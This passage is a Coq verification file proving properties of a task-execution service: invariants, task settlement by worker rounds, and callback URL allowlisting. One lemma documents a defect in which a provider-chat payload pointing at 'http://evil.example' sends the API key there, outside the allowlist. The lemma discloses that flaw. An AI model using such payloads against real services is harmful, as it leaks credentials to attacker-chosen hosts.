(* ===== verification/TaskExecFacts.v ===== *)
(** * Task execution: theorems

    What the services keep, commands and actions keep; callbacks go to allowed
    hosts only; a round of a worker settles the task it claims; and the defects
    of the loop. *)

From S2P Require Import Prelude PyStr PyTime Json JsonText Paths Policy TaskDb Tasks TaskFacts WriteMemory Sources Messaging TaskExec.
From Stdlib Require Import Ascii.
Open Scope Z_scope.

(** ** What the services keep *)

(** An invariant that every operation keeps, whether it returns or raises. *)
Class ServicesKeep {S : Type} `{CommandServices S} (I : S -> Prop) : Prop := {
  keep_now : always I now_millis;
  keep_write w : always I (write_op w);
  keep_search q : always I (search_op q);
  keep_status : always I status_op;
  keep_create title p a n d r m : always I (create_task_op title p a n d r m);
  keep_get id : always I (get_task_op id);
  keep_events id : always I (get_events_op id);
  keep_approve id a n : always I (approve_task_op id a n);
  keep_replay id a n b : always I (replay_task_op id a n b);
  keep_update id s m d : always I (update_task_op id s m d);
  keep_list s p a n : always I (list_tasks_op s p a n);
  keep_deadletter p n : always I (deadletter_op p n);
  keep_runtime : always I runtime_op;
  keep_post k d : always I (post_op k d) }.

Lemma always_if {S A} (I : S -> Prop) (b : bool) (m n : ST S A) : always I m -> always I n -> always I (if b then m else n).
Proof. by destruct b. Qed.

Lemma always_lift {S A} (I : S -> Prop) (r : result A) : always I (st_lift r).
Proof. intros s Hs. by destruct r. Qed.

Lemma always_guard {S} (I : S -> Prop) b code m : always I (guard b code m).
Proof. unfold guard. by destruct b; intros s. Qed.

Create HintDb keep.
#[export] Hint Resolve always_ret always_raise always_lift always_guard keep_now keep_write keep_search keep_status keep_create
  keep_get keep_events keep_approve keep_replay keep_update keep_list keep_deadletter keep_runtime keep_post : keep.

Ltac keeps :=
  repeat first [ progress cbv zeta | solve [eauto 2 with keep] | apply always_bind; [|intros ?] | apply always_if | dmatch ].

Section commands.
Context {S : Type} `{CommandServices S} (I : S -> Prop) `{!ServicesKeep I}.
Variable M : messaging_config.

Lemma found_task_keeps (m : ST S (option task)) : always I m -> always I (found_task m).
Proof. intros Hm. unfold found_task, http_error. apply always_bind; [done|]. intros [t|]; keeps. Qed.
#[local] Hint Resolve found_task_keeps : keep.

Lemma need_id_keeps id w : always I (need_id (S := S) id w).
Proof. apply always_guard. Qed.
#[local] Hint Resolve need_id_keeps : keep.

Lemma task_command_keeps x c content : always I (task_command M x c content).
Proof.
  unfold task_command, task_create, task_status_cmd, task_approve, task_replay, task_cancel, task_list, task_deadletter, task_runtime.
  keeps.
Qed.

Lemma command_keeps c channel source project topic po to u :
  always I (_execute_messaging_command M c channel source project topic po to u).
Proof.
  unfold _execute_messaging_command. apply always_bind; [apply always_lift|]. intros x.
  unfold remember, recall, status_command.
  pose proof (task_command_keeps x c (strip (c_content c))). keeps.
Qed.
End commands.

(** ** Actions *)

Section actions.
Context {S : Type} `{CommandServices S} `{HttpClient S} (I : S -> Prop) `{!ServicesKeep I}.
Variable C : task_config.
Variable M : messaging_config.
Variable X : exec_config.
Variable int_of_float : string -> result Z.
Variable py_float : json -> result json.

(** The requests an action may make keep the invariant. *)
Hypothesis http_keeps : forall m url b h,
  _task_validate_callback_url C url = Ok tt \/ TASK_PROVIDER_CHAT_ENABLED X = true -> always I (http_op m url b h).

Lemma callback_keeps payload : always I (run_http_callback C payload).
Proof.
  unfold run_http_callback. intros s Hs. unfold st_bind at 1, st_lift at 1.
  destruct (_task_validate_callback_url C (first_text [dget payload "url"])) as [[]|e] eqn:E; [|done].
  revert s Hs. change (always I (response <- http_op (upper (strip (jstr (jor (dget payload "method") (JStr "POST")))))
    (first_text [dget payload "url"]) (dget payload "body") (map (fun kv => (fst kv, jstr (snd kv))) (as_dict (dget payload "headers"))) ;;
    st_ret [("action", JStr "http_callback"); ("status_code", JInt (status_code response));
            ("response_text", JStr (take 600 (body_text response)))])).
  apply always_bind; [apply http_keeps; by left|]. intros r. apply always_ret.
Qed.

Lemma provider_keeps payload : always I (run_provider_chat M X py_float payload).
Proof.
  unfold run_provider_chat, failed. destruct (TASK_PROVIDER_CHAT_ENABLED X) eqn:E; cbn [negb]; [|apply always_raise].
  assert (forall m url b h, always I (http_op m url b h)) as Hh by (intros; apply http_keeps; by right).
  unfold chat_messages, failed. keeps.
Qed.

Lemma action_keeps t worker : always I (_execute_task_action C M X int_of_float py_float t worker).
Proof.
  pose proof callback_keeps. pose proof provider_keeps. pose proof (command_keeps I M).
  unfold _execute_task_action, failed. destruct (t_payload t) as [payload|]; [|keeps].
  destruct (_normalize_task_action _) as [action|]; [|keeps].
  unfold run_memory_write, run_memory_search, run_messaging_command, failed. keeps.
Qed.
End actions.

(** ** The task database *)

Definition has_task (id : string) (T : task_tables) : Prop := In id (map t_id (tasks T)).

Lemma update_task_ids id u ev T : keeps_id u -> map t_id (tasks (update_task id u ev T)) = map t_id (tasks T).
Proof. intros Hk. cbn. apply map_update_column. intros; apply Hk. Qed.

Lemma recover_fold_ids now sel T : map t_id (tasks (fold_left (recover_one now) sel T)) = map t_id (tasks T).
Proof. revert T. induction sel as [|t sel IH]; intros T; [done|]. cbn [fold_left]. rewrite IH. by apply update_task_ids. Qed.

Lemma task_step_has C T T' id : task_step C T T' -> has_task id T -> has_task id T'.
Proof.
  unfold has_task. intros Hs Hid. destruct Hs as [now id' title pr ag prio p ra mx T T' t E|now w T T' r E|now limit T T' n E
    |now id' s m md T T' r E|now id' a n T T' r E|now id' e w T T' r E|now id' a n b T T' r E].
  - unfold create_task_record in E. destruct (new_task _ _ _ _ _ _ _ _ _) as [t0|]; [|done]. cbn [rbind] in E.
    destruct (existsb _ _); [done|]. injection E as <- <-. cbn. rewrite map_app. apply in_or_app. by left.
  - destruct (claim_tx_cases C now w T) as [[_ E']|(t & ev & Hin & Hel & _ & E')]; cbn zeta in E'; rewrite E' in E; injection E as <- <-;
      [done|]. by rewrite update_task_ids.
  - injection E as <- _. by rewrite recover_fold_ids.
  - unfold update_task_status in E. destruct (parse_task_status _); [|done].
    destruct (run_after_override md); [|done]. cbn [rbind] in E.
    destruct (find_task id' T); injection E as <- <-; [by rewrite update_task_ids|done].
  - unfold approve_task_record in E. destruct (find_task id' T); injection E as <- <-; [by rewrite update_task_ids|done].
  - unfold requeue_task_for_retry in E. destruct (find_task id' T) as [t|]; [|by injection E as <- <-].
    destruct (if _ <=? _ then _ else _) as [s m]. injection E as <- <-. rewrite update_task_ids; [done|].
    intros x. unfold retry_task. by destruct (_ <=? _).
  - unfold replay_task_record in E. destruct (find_task id' T); injection E as <- <-; [by rewrite update_task_ids|done].
Qed.

Section runtime.
Context {W : Type} `{OuterServices W}.
Variable C : task_config.
Variable X : exec_config.
Variable M : messaging_config.
Variable int_of_float : string -> result Z.
Variable py_float : json -> result json.

(** The database answers, its tables are well-formed and hold the task. *)
Definition db_quiet (id : string) (db : task_db task_tables) : Prop :=
  db_faults db = [] /\ tables_ok (tables db) /\ has_task id (tables db).

Definition quiet_with (ih : string * task_health) (s : runtime_state W) : Prop := db_quiet (fst ih) (rt_db s) /\ rt_health s = snd ih.

(** A transaction of the table, without faults. *)
Lemma exec_quiet {A} retries (fn : task_tables -> result (task_tables * A)) db :
  db_faults db = [] -> let '(db', r) := _task_db_exec retries fn db in
  db_faults db' = [] /\ match r with Ok a => fn (tables db) = Ok (tables db', a) | Raise e => tables db' = tables db end.
Proof.
  intros Hq. unfold _task_db_exec. pose proof (run_attempts_atomic fn (Z.to_nat (Z.max 1 retries) - 1) db) as Hr.
  rewrite Hq in Hr. specialize (Hr (List.Forall_nil _)). destruct (run_attempts fn _ db) as [db' r].
  destruct Hr as [(k & _ & Hk) Hr]. split; [by rewrite Hk, skipn_nil|done].
Qed.

Lemma in_db_keeps {A} id (m : ST (task_db task_tables) A) :
  always (db_quiet (fst id)) m -> always (quiet_with id) (in_db m).
Proof. intros Hm s [Hs Hh]. unfold in_db. specialize (Hm (rt_db s) Hs). by destruct (m (rt_db s)) as [db [a|e]]. Qed.

Lemma exec_keeps {A} id retries (fn : task_tables -> result (task_tables * A)) :
  (forall T T' a, fn T = Ok (T', a) -> T' = T \/ task_step C T T') ->
  always (db_quiet id) (_task_db_exec retries fn).
Proof.
  intros Hfn db (Hq & Hok & Hid). pose proof (exec_quiet retries fn db Hq) as He.
  destruct (_task_db_exec retries fn db) as [db' [a|e]]; destruct He as [Hq' He].
  - unfold db_quiet. destruct (Hfn _ _ _ He) as [->|Hs]; [done|]. split; [done|]. split; [by eapply task_step_ok|by eapply task_step_has].
  - unfold db_quiet. by rewrite He.
Qed.

Lemma tx_keeps {A} id (fn : task_tables -> result (task_tables * A)) :
  (forall T T' a, fn T = Ok (T', a) -> T' = T \/ task_step C T T') -> always (quiet_with id) (transaction X fn).
Proof. intros Hfn. by apply in_db_keeps, exec_keeps. Qed.

Lemma query_keeps {A} id (f : task_tables -> A) : always (quiet_with id) (query X f).
Proof. apply tx_keeps. intros T T' a [= <- _]. by left. Qed.

Lemma world_keeps {A} id (m : ST W A) : always (quiet_with id) (in_world m).
Proof. intros s Hs. unfold in_world. by destruct (m (rt_world s)) as [w [a|e]]. Qed.

Lemma now_keeps id : always (quiet_with id) now.
Proof. by intros s. Qed.

#[local] Hint Resolve query_keeps world_keeps now_keeps : keep.
#[local] Hint Constructors task_step : keep.

Lemma outcome_keeps id ended message md t : always (quiet_with id) (write_outcome X ended message md t).
Proof.
  unfold write_outcome. destruct t as [u|]; [|keeps]. destruct (ended u); [|keeps]. apply always_bind; [|keeps].
  apply always_try; [|keeps]. unfold _record_task_outcome_memory. keeps.
Qed.
#[local] Hint Resolve outcome_keeps : keep.

Lemma update_keeps id id' status message md : always (quiet_with id) (update_status X id' status message md).
Proof.
  unfold update_status. apply always_bind; [keeps|]. intros n. destruct (parse_task_status _); [|keeps].
  apply always_bind; [keeps|]. intros _. apply always_bind; [|keeps]. apply tx_keeps. intros. right. eauto with keep.
Qed.

Lemma retry_keeps id id' e w : always (quiet_with id) (retry_later C X id' e w).
Proof.
  unfold retry_later. apply always_bind; [keeps|]. intros n. apply always_bind; [|keeps]. apply tx_keeps. intros. right. eauto with keep.
Qed.

Lemma create_keeps id title p a n d r m : always (quiet_with id) (create C X title p a n d r m).
Proof.
  unfold create. apply always_bind; [keeps|]. intros k. apply always_bind; [keeps|]. intros _. apply always_bind; [keeps|]. intros i.
  apply tx_keeps. intros. right. eauto with keep.
Qed.

Lemma snapshot_keeps id : always (quiet_with id) (runtime_snapshot X).
Proof. intros s. unfold runtime_snapshot. apply always_bind; [apply query_keeps|]. intros sn. apply always_ret. Qed.

#[local] Instance runtime_keep id : ServicesKeep (H := runtime_services C X) (quiet_with id).
Proof.
  split; intros; cbn; try (by apply world_keeps); try (by apply query_keeps); try apply update_keeps; try apply create_keeps;
    try apply snapshot_keeps; try (apply always_bind; [apply now_keeps|]; intros k; apply tx_keeps; intros; right; eauto with keep).
  by intros s.
Qed.

Lemma execute_keeps id t worker : always (quiet_with id)
  (_execute_task_action (H := runtime_services C X) C M X int_of_float py_float t worker).
Proof. apply action_keeps; [apply runtime_keep|]. intros. apply world_keeps. Qed.

(** ** Settling a task *)

Abbreviation state := (runtime_state W).

Lemma has_task_find id T : has_task id T -> exists t, find_task id T = Some t.
Proof.
  intros (t & Ht & Hin)%in_map_iff. unfold find_task. destruct (List.find _ _) as [t'|] eqn:E; [by eexists|].
  eapply List.find_none in E; [|exact Hin]. cbn in E. rewrite Ht, String.eqb_refl in E. done.
Qed.

(** Writing the outcome touches neither the database nor the counters. *)
Lemma outcome_result ended message md t (s : state) : exists w,
  write_outcome X ended message md t s = (mkRuntime (rt_db s) w (rt_health s), Ok t).
Proof.
  assert (forall (m : ST state unit) d h, always (fun s => rt_db s = d /\ rt_health s = h) m -> forall s : state, rt_db s = d -> rt_health s = h ->
    exists w, st_try m (fun _ => st_ret tt) s = (mkRuntime d w h, Ok tt)) as Htry.
  { intros m d h Hm s0 Hd Hh. specialize (Hm s0 (conj Hd Hh)). unfold st_try. destruct (m s0) as [s' [[]|e]]; destruct Hm as [<- <-];
      exists (rt_world s'); by destruct s'. }
  unfold write_outcome. destruct t as [u|]; [|exists (rt_world s); by destruct s]. unfold st_bind at 1.
  destruct (ended u); [|exists (rt_world s); by destruct s].
  destruct (Htry (_record_task_outcome_memory X (fun w => in_world (outer_write w)) u message md) (rt_db s) (rt_health s)) with (s := s)
    as (w & ->); [|done..|by exists w].
  assert (forall A (m : ST W A), always (fun s0 => rt_db s0 = rt_db s /\ rt_health s0 = rt_health s) (in_world m)) as Hw.
  { intros A m s0 Hs0. unfold in_world. by destruct (m (rt_world s0)) as [w [a|e]]. }
  unfold _record_task_outcome_memory. keeps.
Qed.

(** A transaction that succeeds, without faults. *)
Lemma tx_result {A} (fn : task_tables -> result (task_tables * A)) (s : state) T' a :
  db_faults (rt_db s) = [] -> fn (tables (rt_db s)) = Ok (T', a) ->
  transaction X fn s = (mkRuntime (mkDb T' []) (rt_world s) (rt_health s), Ok a).
Proof.
  intros Hq Hf. unfold transaction, in_db. destruct (rt_db s) as [T fs]. cbn in *. subst fs.
  unfold _task_db_exec. by rewrite (run_attempts_no_fault fn _ T T' a Hf).
Qed.

(** The task is in the quiet database with the status. *)
Definition settled (id : string) (p : task -> Prop) (db : task_db task_tables) : Prop :=
  db_quiet id db /\ exists u, find_task id (tables db) = Some u /\ p u.

(** A transaction on the task, followed by its outcome. *)
Lemma settle_result fn id ended message md (s : state) T' u (p : task -> Prop) :
  db_quiet id (rt_db s) -> fn (tables (rt_db s)) = Ok (T', Some u) -> task_step C (tables (rt_db s)) T' ->
  find_task id T' = Some u -> p u ->
  exists s', (t <- transaction X fn ;; write_outcome X ended message md t) s = (s', Ok (Some u)) /\
    settled id p (rt_db s') /\ rt_health s' = rt_health s.
Proof.
  intros (Hq & Hok & Hid) Hf Hs Hu Hp. unfold st_bind. rewrite (tx_result _ _ _ _ Hq Hf).
  destruct (outcome_result ended message md (Some u) (mkRuntime (mkDb T' []) (rt_world s) (rt_health s))) as (w & Ew). rewrite Ew.
  eexists. split; [reflexivity|]. split; [|done]. split; [|by exists u].
  split; [done|]. split; [by eapply task_step_ok|by eapply task_step_has].
Qed.

Lemma succeed_result id message md (s : state) : db_quiet id (rt_db s) -> run_after_override (Some md) = Ok None ->
  exists s' u, update_status X id "succeeded" (Some message) (Some md) s = (s', Ok (Some u)) /\
    settled id (fun u => t_status u = TSucceeded) (rt_db s') /\ rt_health s' = rt_health s.
Proof.
  intros Hq Hr. pose proof Hq as (_ & Hok & (t & Ht)%has_task_find). unfold update_status. unfold st_bind at 1, now. cbn iota beta.
  change (parse_task_status (lower (strip "succeeded"))) with (Some TSucceeded). cbn iota beta. rewrite Hr.
  set (n := clock_us (rt_world s)). set (f := status_update (_task_iso_now n) TSucceeded (Some message) None (result_of_metadata (Some md))).
  set (T' := update_task id f (mkTaskEvent id (_task_iso_now n) "succeeded" (Some message) (option_map JObj (Some md))) (tables (rt_db s))).
  assert (find_task id T' = Some (f t)) as Hu by (by apply find_updated).
  assert (update_task_status n id "succeeded" (Some message) (Some md) (tables (rt_db s)) = Ok (T', Some (f t))) as Hf.
  { unfold update_task_status. change (parse_task_status (lower (strip "succeeded"))) with (Some TSucceeded). cbn iota beta zeta.
    rewrite Hr. cbn [rbind]. rewrite Ht. f_equal. f_equal. exact Hu. }
  destruct (settle_result _ id (fun _ => terminal TSucceeded) (Some message) (Some md) s T' (f t) (fun u => t_status u = TSucceeded)
    Hq Hf (tstep_update C _ _ _ _ _ _ _ _ Hf) Hu eq_refl) as (s' & E & H1 & H2).
  exists s', (f t). unfold st_bind at 1, st_lift. cbn iota beta. rewrite E. done.
Qed.

Lemma retry_result id error worker (s : state) : db_quiet id (rt_db s) ->
  exists s' u, retry_later C X id error worker s = (s', Ok (Some u)) /\
    settled id (fun u => t_status u = Queued \/ t_status u = TFailed) (rt_db s') /\ rt_health s' = rt_health s.
Proof.
  intros Hq. pose proof Hq as (_ & Hok & (t & Ht)%has_task_find). unfold retry_later. unfold st_bind at 1, now. cbn iota beta.
  set (n := clock_us (rt_world s)).
  destruct (requeue_task_for_retry C n id error (Some worker) (tables (rt_db s))) as [[T' r]|e] eqn:Hf.
  2:{ unfold requeue_task_for_retry in Hf. rewrite Ht in Hf. by destruct (if _ <=? _ then _ else _). }
  assert (exists u, r = Some u /\ find_task id T' = Some u /\ (t_status u = Queued \/ t_status u = TFailed)) as (u & -> & Hu & Hs).
  { unfold requeue_task_for_retry in Hf. rewrite Ht in Hf. destruct (if _ <=? _ then _ else _) as [st m]. injection Hf as <- <-.
    exists (retry_task C n (take 2000 (str_or error "task execution failed")) t).
    assert (forall ev, find_task id (update_task id (retry_task C n (take 2000 (str_or error "task execution failed"))) ev (tables (rt_db s)))
      = Some (retry_task C n (take 2000 (str_or error "task execution failed")) t)) as Hf.
    { intros ev. apply find_updated; [|done..]. intros x. unfold retry_task. by destruct (_ <=? _). }
    split; [apply Hf|]. split; [apply Hf|]. unfold retry_task. destruct (_ <=? _); cbn; auto. }
  destruct (settle_result _ id (fun u => bool_decide (t_status u = TFailed)) (Some "Task failed after retries")
    (Some [("error", JStr (take 2000 (str_or error "task execution failed")))]) s T' u
    (fun u => t_status u = Queued \/ t_status u = TFailed) Hq Hf (tstep_retry C _ _ _ _ _ _ _ Hf) Hu Hs)
    as (s' & E & H1 & H2).
  exists s', u. rewrite E. done.
Qed.

(** The counters of finished executions. *)
Definition finished (h : task_health) : Z := succeeded h + failed_count h + retried h.

Lemma failure_result id worker exc t (s : state) : t_id t = id -> truthy id = true -> is_cancelled exc = false -> db_quiet id (rt_db s) ->
  exists s', handle_failure C X worker (Some t) exc s = (s', Ok tt) /\
    settled id (fun u => t_status u = Queued \/ t_status u = TFailed) (rt_db s') /\
    claimed (rt_health s') = claimed (rt_health s) /\ finished (rt_health s') = finished (rt_health s) + 1.
Proof.
  intros Hid Ht Hc Hq. unfold handle_failure. rewrite Hc, Hid, Ht. unfold st_bind at 1, on_health, st_modify. cbn iota beta.
  set (s1 := mkRuntime (rt_db s) (rt_world s) (set_error exc (rt_health s))).
  destruct (retry_result id (exn_str exc) worker s1 Hq) as (s' & u & E & Hs & Hh). unfold st_bind at 1. rewrite E. cbn iota beta.
  destruct (bool_decide (t_status u = Queued)); eexists; (split; [reflexivity|]; split; [exact Hs|]); cbn; rewrite Hh; unfold finished; cbn; lia.
Qed.

(** A claim without faults. *)
Lemma claim_result worker (s : state) : db_faults (rt_db s) = [] -> tables_ok (tables (rt_db s)) ->
  exists s1 r, claim C X worker s = (s1, Ok r) /\ rt_health s1 = rt_health s /\
    match r with
    | Some t => db_quiet (t_id t) (rt_db s1) /\ has_task (t_id t) (tables (rt_db s))
    | None => db_faults (rt_db s1) = [] /\ tables_ok (tables (rt_db s1))
    end.
Proof.
  intros Hq Hok. unfold claim, now. unfold st_bind at 1. cbn iota beta. set (n := clock_us (rt_world s)).
  unfold in_db, claim_next_task, recover_expired_task_leases. change (25 <=? 0) with false. cbn iota.
  destruct (rt_db s) as [T fs]. cbn [db_faults tables] in *. subst fs. unfold st_bind, _task_db_exec.
  destruct (recover_tx n 25 T) as [[T1 k]|e] eqn:Er; [|done]. rewrite (run_attempts_no_fault _ _ _ _ _ Er).
  assert (tables_ok T1) as Hok1 by (eapply (task_step_ok C); [by eapply tstep_recover|done]).
  assert (exists T2 r, claim_tx C n (Some worker) T1 = Ok (T2, r)) as (T2 & r & Ec).
  { destruct (claim_tx_cases C n (Some worker) T1) as [[_ E]|(t & ev & _ & _ & _ & E)]; cbn zeta in E; rewrite E; eauto. }
  rewrite (run_attempts_no_fault _ _ _ _ _ Ec). cbn iota beta. eexists. exists r. split; [reflexivity|]. split; [done|]. cbn [rt_db].
  assert (tables_ok T2) as Hok2 by (by eapply claim_tx_ok). destruct r as [t|]; [|done].
  destruct (claim_tx_some C n (Some worker) T1 T2 t Hok1 Ec) as (t0 & Ht0 & _ & Et & Hin & _). split.
  - split; [done|]. split; [done|]. by apply in_map.
  - injection Er as <- _. apply (in_map t_id) in Ht0. rewrite recover_fold_ids in Ht0. by rewrite Et.
Qed.

Lemma execute_result worker t (s : state) : db_quiet (t_id t) (rt_db s) ->
  match execute_claimed C X M int_of_float py_float worker t s with
  | (s', Ok _) => settled (t_id t) (fun u => t_status u = TSucceeded) (rt_db s') /\
      claimed (rt_health s') = claimed (rt_health s) + 1 /\ finished (rt_health s') = finished (rt_health s) + 1
  | (s', Raise e) => db_quiet (t_id t) (rt_db s') /\
      claimed (rt_health s') = claimed (rt_health s) + 1 /\ finished (rt_health s') = finished (rt_health s)
  end.
Proof.
  intros Hq. unfold execute_claimed. unfold st_bind at 1, on_health at 1, st_modify at 1. cbn iota beta.
  set (h1 := count_claimed (rt_health s)). set (s1 := mkRuntime (rt_db s) (rt_world s) h1).
  pose proof (execute_keeps (t_id t, h1) t worker s1 (conj Hq eq_refl)) as Hk. unfold st_bind at 1.
  destruct (_execute_task_action C M X int_of_float py_float t worker s1) as [s2 [r|e]]; destruct Hk as [Hq2 Hh2].
  - cbn [fst snd] in Hq2, Hh2. destruct (succeed_result (t_id t) "Task executed successfully" [("worker", JStr worker); ("result", JObj r)] s2 Hq2
      eq_refl) as (s3 & u & E & Hs & Hh3). unfold st_bind at 1. rewrite E. cbn iota beta. unfold on_health, st_modify. cbn [rt_db rt_health].
    split; [exact Hs|]. rewrite Hh3, Hh2. unfold finished, h1. cbn. lia.
  - cbn [fst snd] in Hq2, Hh2. split; [done|]. rewrite Hh2. unfold finished, h1. cbn. lia.
Qed.
End runtime.

(** C5: a round of a task worker settles the task it claims, whatever the
    services answer: without database faults, unless the worker is cancelled,
    the round ends normally, nothing is claimed or the task is afterwards
    succeeded, queued again or failed for good, exactly one of the counters
    counts it, and the table stays well-formed. *)
Theorem worker_settles_task {W} `{OuterServices W} C X M int_of_float py_float worker (s s' : runtime_state W) r :
  db_faults (rt_db s) = [] -> tables_ok (tables (rt_db s)) ->
  (forall t, In t (tasks (tables (rt_db s))) -> truthy (t_id t) = true) ->
  worker_round C X M int_of_float py_float worker s = (s', r) ->
  match r with
  | Raise e => is_cancelled e = true
  | Ok _ =>
      db_faults (rt_db s') = [] /\ tables_ok (tables (rt_db s')) /\
      claimed (rt_health s') - claimed (rt_health s) = finished (rt_health s') - finished (rt_health s) /\
      match snd (claim C X worker s) with
      | Ok (Some t) => exists u, find_task (t_id t) (tables (rt_db s')) = Some u /\
          (t_status u = TSucceeded \/ t_status u = Queued \/ t_status u = TFailed) /\ claimed (rt_health s') = claimed (rt_health s) + 1
      | Ok None => rt_health s' = rt_health s
      | Raise _ => False
      end
  end.
Proof.
  intros Hq Hok Hids. unfold worker_round. destruct (claim_result C X worker s Hq Hok) as (s1 & o & -> & Hh & Ho). cbn [snd].
  destruct o as [t|].
  2:{ intros [= <- <-]. destruct Ho as [H1 H2]. rewrite Hh. split; [done|]. split; [done|]. split; [lia|done]. }
  destruct Ho as [Hq1 Hst]. unfold st_try.
  pose proof (execute_result C X M int_of_float py_float worker t s1 Hq1) as He.
  destruct (execute_claimed C X M int_of_float py_float worker t s1) as [s2 [[]|e]].
  - intros [= <- <-]. destruct He as (((Hq2 & Hok2 & _) & u & Hu & Hs) & Hc & Hf). rewrite Hh in Hc, Hf.
    split; [done|]. split; [done|]. split; [lia|]. exists u. auto.
  - destruct He as (Hq2 & Hc & Hf). destruct (is_cancelled e) eqn:Ec.
    { unfold handle_failure. rewrite Ec. by intros [= <- <-]. }
    assert (truthy (t_id t) = true) as Ht.
    { apply in_map_iff in Hst as (t0 & <- & Hin). by apply Hids. }
    destruct (failure_result C X (t_id t) worker e t s2 eq_refl Ht Ec Hq2) as (s3 & -> & ((Hq3 & Hok3 & _) & u & Hu & Hs) & Hc3 & Hf3).
    intros [= <- <-]. rewrite Hh in Hc, Hf. split; [done|]. split; [done|]. split; [lia|]. exists u. split; [done|]. split; [tauto|lia].
Qed.

(** ** Requests of tasks *)

Section requests.
Context {S : Type} `{CommandServices S} `{HttpClient S}.
Variable log : S -> list string. (* the URLs requested so far *)
Variable C : task_config.

(** New requests went to allowed URLs only. *)
Definition allowed_since (l : list string) (s : S) : Prop :=
  exists urls, log s = l ++ urls /\ List.Forall (fun url => _task_validate_callback_url C url = Ok tt) urls.

Lemma same_log_allowed {A} l (m : ST S A) : (forall k, always (fun s => log s = k) m) -> always (allowed_since l) m.
Proof.
  intros Hm s (urls & Hl & Hu). specialize (Hm (log s) s eq_refl). destruct (m s) as [s' [a|e]]; exists urls; (split; [congruence|done]).
Qed.

Lemma services_allowed l : (forall k, ServicesKeep (fun s => log s = k)) -> ServicesKeep (allowed_since l).
Proof. intros Hk. split; intros; apply same_log_allowed; intros urls; specialize (Hk urls); eauto with keep. Qed.
End requests.

(** C34: with provider chats disabled, a task makes no HTTP request except to
    URLs with an allowed scheme and host, whatever its payload says. *)
Theorem requests_are_allowlisted {S} `{CommandServices S} `{HttpClient S} (log : S -> list string) C M X int_of_float py_float
    t worker s s' r :
  TASK_PROVIDER_CHAT_ENABLED X = false ->
  (forall k, ServicesKeep (fun s => log s = k)) ->
  (forall m url b h k, hoare (fun s => log s = k) (http_op m url b h) (fun _ s => log s = k ++ [url])
                         (fun _ s => log s = k \/ log s = k ++ [url])) ->
  _execute_task_action C M X int_of_float py_float t worker s = (s', r) ->
  exists urls, log s' = log s ++ urls /\ List.Forall (fun url => _task_validate_callback_url C url = Ok tt) urls.
Proof.
  intros Hx Hk Hh E. pose proof (services_allowed log C (log s) Hk) as Hs.
  enough (always (allowed_since log C (log s)) (_execute_task_action C M X int_of_float py_float t worker)) as Ha.
  { assert (allowed_since log C (log s) s) as Hnow by (exists []; rewrite app_nil_r; split; [done|constructor]).
    specialize (Ha s Hnow). rewrite E in Ha. by destruct r. }
  apply action_keeps; [done|]. intros m url b h [Hv|?]; [|congruence]. intros s0 (urls & Hl & Hu).
  specialize (Hh m url b h (log s0) s0 eq_refl).
  assert (forall s1, log s1 = log s0 ++ [url] -> allowed_since log C (log s) s1) as Hadd.
  { intros s1 E1. exists (urls ++ [url]). rewrite E1, Hl, <- app_assoc. split; [done|]. apply List.Forall_app. split; [done|by constructor]. }
  destruct (http_op m url b h s0) as [s1 [a|e]]; [by apply Hadd|]. destruct Hh as [Hh|Hh]; [|by apply Hadd].
  exists urls. split; [congruence|done].
Qed.

(** ** Runs *)

(** Services without effects, and an HTTP client that keeps the URL and the
    headers of the requests it answers with an error. *)
Abbreviation sent := (list (string * list (string * string))).
#[local] Instance idle_services : CommandServices sent := {|
  now_millis := st_ret 0; write_op _ := st_ret (JObj []); search_op _ := st_ret []; status_op := st_ret [];
  create_task_op _ _ _ _ _ _ _ := st_raise TimeoutError; get_task_op _ := st_ret None; get_events_op _ := st_ret [];
  approve_task_op _ _ _ := st_ret None; replay_task_op _ _ _ _ := st_ret None; update_task_op _ _ _ _ := st_ret None;
  list_tasks_op _ _ _ _ := st_ret []; deadletter_op _ _ := st_ret []; runtime_op := st_ret []; post_op _ _ := st_ret tt |}.
#[local] Instance recording_http : HttpClient sent := fun _ url _ headers s => (s ++ [(url, headers)], Ok (mkHttp 500 "")).

Definition exec_demo (chat : bool) : exec_config := mkExecConfig chat "http://model:9000" "key" "m" true 1.
Definition task_of (p : dict) : task :=
  mkTask "t1" "demo" TRunning (Some "p") None 0 (Some p) None 1 4 (Some "") (Some "w") None None None "" "" false false "low" None.
Definition run_action (chat : bool) (p : dict) : sent * result dict :=
  _execute_task_action default_task_config default_messaging (exec_demo chat) (fun _ => Ok 0) (fun j => Ok j) (task_of p) "w" [].
Definition callback_to (url : string) : dict := [("action", JStr "http_callback"); ("url", JStr url)].

Lemma idle_keep k : ServicesKeep (fun s : sent => map fst s = k).
Proof. split; intros; by intros ?. Qed.

Lemma requests_are_allowlisted_witness : exists urls,
  map fst (fst (run_action false (callback_to "http://localhost/hook"))) = urls /\
  List.Forall (fun url => _task_validate_callback_url default_task_config url = Ok tt) urls /\ urls = ["http://localhost/hook"].
Proof.
  destruct (run_action false (callback_to "http://localhost/hook")) as [s' r] eqn:E.
  assert (map fst s' = ["http://localhost/hook"]) as Hs by (vm_compute in E; injection E as <- _; reflexivity).
  destruct (requests_are_allowlisted (map fst) default_task_config default_messaging (exec_demo false) (fun _ => Ok 0) (fun j => Ok j)
    (task_of (callback_to "http://localhost/hook")) "w" [] s' r eq_refl idle_keep) as (urls & H1 & H2).
  - intros m url b h k s Hk. cbn. by rewrite map_app, Hk.
  - exact E.
  - exists urls. cbn in H1. split; [exact H1|]. split; [exact H2|]. congruence.
Defined.

(** A callback that the other side answers with an error counts as a success. *)
Lemma callback_error_is_success : exists d,
  snd (run_action false (callback_to "http://localhost/hook")) = Ok d /\ dget d "status_code" = JInt 500.
Proof. eexists. split; [vm_compute; reflexivity|reflexivity]. Qed.

(** A provider chat takes its URL from the payload, past the list of allowed
    hosts, and sends the API key there. *)
Lemma provider_key_goes_anywhere :
  _task_validate_callback_url default_task_config "http://evil.example" <> Ok tt /\
  fst (run_action true [("action", JStr "provider_chat"); ("prompt", JStr "hi"); ("url", JStr "http://evil.example")])
  = [("http://evil.example/v1/chat/completions", [("content-type", "application/json"); ("authorization", "Bearer key")])].
Proof. split; [by vm_compute|vm_compute; reflexivity]. Qed.

(** ** Defects of the loop *)

(** A world in which every write fails. *)
#[local] Instance broken_world : OuterServices Z := {|
  clock_us w := w; new_id w := (w, "fresh"); outer_write _ := st_raise (OrchestratorError "memory bank down");
  outer_search _ := st_raise (OrchestratorError "search down"); outer_status := st_ret []; outer_post _ _ := st_ret tt;
  outer_http _ _ _ _ := st_raise TimeoutError |}.

Definition idle_health : task_health := mkTaskHealth 0 0 0 0 0 false None 0 None true true 2.
Definition demo_tables : task_tables :=
